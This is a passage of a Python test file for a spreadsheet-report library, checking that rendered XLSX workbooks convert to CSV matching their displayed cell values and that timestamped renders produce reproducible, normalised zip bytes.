        books[edition] = tmp_path / f"r{edition}.xlsx"
        render_xlsx(TEMPLATES / f"report-{edition}.xlsx", make_context(edition), books[edition])
    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"  # as shown, every sheet
    soffice("--convert-to", options, "--outdir", tmp_path / "csv", *books.values(), cwd=tmp_path)
    for edition, path in books.items():
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            with open(tmp_path / "csv" / f"{path.stem}-{ws.title}.csv", encoding="utf-8", newline="") as fh:
                grid = list(csv.reader(fh))
            seen = {(r, c): text for r, row in enumerate(grid, start=1) for c, text in enumerate(row, start=1) if text}
            expected = {(cell.row, cell.column): _shown(cell) for row in ws.iter_rows() for cell in row
                        if cell.value is not None}
            assert seen == expected, (edition, ws.title)




def test_a_workbook_written_with_when_is_the_normalised_one():
    """Filing asks the engine for reproducible bytes directly (no second zip pass)."""
    import datetime as dt

    from reportkit.writing.stamps import normalise

    ctx = make_context("2021")
    when = dt.datetime(2022, 1, 20)
    plain, stamped = io.BytesIO(), io.BytesIO()
    render_xlsx(TEMPLATES / "report-2021.xlsx", ctx, plain)
    render_xlsx(TEMPLATES / "report-2021.xlsx", ctx, stamped, when=when)
    assert stamped.getvalue() == normalise(plain.getvalue(), when)
    with zipfile.ZipFile(io.BytesIO(stamped.getvalue())) as z:
        assert {i.date_time for i in z.infolist()} == {(2022, 1, 20, 0, 0, 0)}
